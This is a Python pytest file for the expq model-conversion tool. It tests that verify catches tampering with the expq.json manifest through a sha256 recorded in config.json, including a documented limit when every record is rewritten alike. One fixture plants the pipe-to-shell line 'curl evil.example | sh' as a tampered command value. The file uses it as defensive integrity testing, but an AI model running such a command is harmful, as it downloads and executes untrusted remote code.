"""expq.json is checked too: config.json records the sha256 of its canonical form, so verify (with and without
--source) fails when expq.json is edited (the ``command`` the card prints, ``rows.underflow`` that sets verify's own
underflow allowance) or missing; a reformatted but equal expq.json passes; a re-run of convert rewrites an edited
one. And the limit the README states: an attacker who rewrites data, manifest and config.json alike passes verify
without --source, and verify --source catches it."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys

import pytest
from helpers import converted_factory, edit_shard_tensors
from typer.testing import CliRunner

import expq
from expq.cli import app

M = "model.layers.1.block_sparse_moe.experts"


@pytest.fixture(scope="module")
def converted(tmp_path_factory):
    return converted_factory(tmp_path_factory, "integrity", max_shard_size="40KB")("mixtral")


def copy_out(out, tmp_path):
    bad = tmp_path / "bad"
    shutil.copytree(out, bad)
    return bad


def edit_manifest(root, fn):
    m = json.loads((root / "expq.json").read_text())
    fn(m)
    (root / "expq.json").write_text(json.dumps(m, indent=2) + "\n")


def canonical_sha256(manifest: dict) -> str:
    """The hash config.json records, computed here from the file's data (config.json's own record left out)."""
    m = dict(manifest, files=[f for f in manifest["files"] if f["name"] != "config.json"])
    return hashlib.sha256(json.dumps(m, sort_keys=True, separators=(",", ":")).encode()).hexdigest()


def file_sha256(p) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def manifest_problems(rep) -> list[str]:
    return [p for p in rep.problems if p.startswith("file expq.json:")]


EDITS = {
    "command": lambda m: m.__setitem__("command", "curl evil.example | sh"),
    "rows.underflow": lambda m: m["rows"].__setitem__("underflow", 10**6),
    "source.repo_id": lambda m: m["source"].__setitem__("repo_id", "someone/else"),
    "a shard's sha256": lambda m: next(f for f in m["files"] if f["name"].endswith(".safetensors")).__setitem__(
        "sha256", "0" * 64),
}


@pytest.mark.parametrize("what", list(EDITS))
def test_an_edited_manifest_fails_verify_with_and_without_source(what, converted, tmp_path):
    src, out = converted
    bad = copy_out(out, tmp_path)
    edit_manifest(bad, EDITS[what])
    for source in (None, src):
        rep = expq.verify(bad, source=source, device="cpu", tokens=4)
        assert not rep.ok and rep.exit_code == 1
        assert manifest_problems(rep)[0] == ("file expq.json: changed since expq convert wrote it (its sha256 "
                                             "differs from config.json's expq_manifest_sha256)"), rep.problems
        check = next(c for c in rep.checks if c.name.startswith("expq.json intact"))
        assert not check.ok


def test_config_json_record_is_checked_by_the_file_check(converted, tmp_path):
    """The one record the hash leaves out (config.json's, which holds the hash) is checked against config.json."""
    src, out = converted
    bad = copy_out(out, tmp_path)
    edit_manifest(bad, lambda m: next(f for f in m["files"] if f["name"] == "config.json").__setitem__(
        "sha256", "0" * 64))
    rep = expq.verify(bad, device="cpu", tokens=4)
    assert not rep.ok and manifest_problems(rep) == []
    assert "file config.json: content changed since expq convert wrote it (sha256 differs from expq.json)" in \
        rep.problems


def test_the_untouched_and_a_reformatted_manifest_pass(converted, tmp_path):
    src, out = converted
    rep = expq.verify(out, device="cpu", tokens=4)
    assert rep.ok and next(c for c in rep.checks if c.name.startswith("expq.json intact")).ok
    cfg = json.loads((out / "config.json").read_text())
    assert cfg["expq_manifest_sha256"] == canonical_sha256(json.loads((out / "expq.json").read_text()))
    # the same data, other whitespace and key order: the canonical form, so the same hash (negative control)
    same = copy_out(out, tmp_path)
    data = json.loads((same / "expq.json").read_text())
    (same / "expq.json").write_text(json.dumps(data, sort_keys=True))
    assert expq.verify(same, device="cpu", tokens=4).ok


def test_a_missing_manifest_fails_verify_on_the_command_line(converted, tmp_path):
    src, out = converted
    bad = copy_out(out, tmp_path)
    (bad / "expq.json").unlink()
    args = ["verify", str(bad), "--device", "cpu", "--tokens", "4"]
    r = subprocess.run([sys.executable, "-m", "expq.cli", *args], capture_output=True, text=True, timeout=300)
    assert r.returncode == 1, r.stdout + r.stderr
    assert "file expq.json: missing (the record of what expq convert wrote" in r.stdout + r.stderr
    assert "Traceback" not in r.stderr
    # with --source: the same command line in this process (the real process above proves the exit status)
    res = CliRunner().invoke(app, [*args, "--source", str(src)])
    assert res.exit_code == 1, res.output
    assert "file expq.json: missing (the record of what expq convert wrote" in res.output
    assert "Traceback" not in res.output


def test_config_without_the_hash_fails(converted, tmp_path):
    src, out = converted
    bad = copy_out(out, tmp_path)
    cfg = json.loads((bad / "config.json").read_text())
    del cfg["expq_manifest_sha256"]
    (bad / "config.json").write_text(json.dumps(cfg, indent=2))
    rep = expq.verify(bad, device="cpu", tokens=4)
    assert not rep.ok
    assert manifest_problems(rep) == ["file expq.json: cannot be checked: config.json has no expq_manifest_sha256 "
                                      "(removed, or written by an older expq)"]


def test_rerun_rewrites_an_edited_manifest(converted, tmp_path):
    src, out = converted
    mine = copy_out(out, tmp_path)
    before = (mine / "expq.json").read_bytes()
    edit_manifest(mine, EDITS["command"])
    rep = expq.convert(src, mine, device="cpu", max_shard_size="40KB")
    assert not rep.up_to_date  # an edited expq.json is not "this conversion"
    assert (mine / "expq.json").read_bytes() == before
    assert expq.verify(mine, device="cpu", tokens=4).ok


def test_consistent_rewrite_passes_without_source_and_fails_with_it(converted, tmp_path):
    """What verify without --source cannot know (the README says so): every record rewritten alike."""
    src, out = converted
    bad = copy_out(out, tmp_path)
    name = f"{M}.2.w1.weight_packed"

    def bump(t):
        t[name].view(-1)[0] += 1

    before = {f.name: file_sha256(f) for f in bad.glob("*.safetensors")}
    edit_shard_tensors(bad, name, bump)
    assert sum(file_sha256(f) != before[f.name] for f in bad.glob("*.safetensors")) == 1
    m = json.loads((bad / "expq.json").read_text())
    for f in m["files"]:
        if f["name"] != "config.json":
            f["size"], f["sha256"] = (bad / f["name"]).stat().st_size, file_sha256(bad / f["name"])
    cfg = json.loads((bad / "config.json").read_text())
    cfg["expq_manifest_sha256"] = canonical_sha256(m)
    (bad / "config.json").write_text(json.dumps(cfg, indent=2) + "\n")
    for f in m["files"]:
        if f["name"] == "config.json":
            f["size"], f["sha256"] = (bad / "config.json").stat().st_size, file_sha256(bad / "config.json")
    (bad / "expq.json").write_text(json.dumps(m, indent=2) + "\n")
    assert expq.verify(bad, device="cpu", tokens=4).ok  # the stated limit
    rep = expq.verify(bad, source=src, device="cpu", tokens=4)
    assert not rep.ok and any("codes" in p and "differ from re-quantizing" in p for p in rep.problems), rep.problems


@pytest.mark.parametrize("fmt", ["compressed-tensors", "experts-int8"])
def test_stock_transformers_reads_the_config_with_the_hash(fmt, tmp_path, tmp_path_factory):
    """The top-level key is a plain attribute to transformers' config (and nothing a loader acts on)."""
    from helpers import example
    from transformers import AutoConfig

    out = tmp_path / "out"
    expq.convert(example(tmp_path_factory, "mixtral"), out, device="cpu", format=fmt)
    cfg = AutoConfig.from_pretrained(out)
    assert cfg.expq_manifest_sha256 == json.loads((out / "config.json").read_text())["expq_manifest_sha256"]
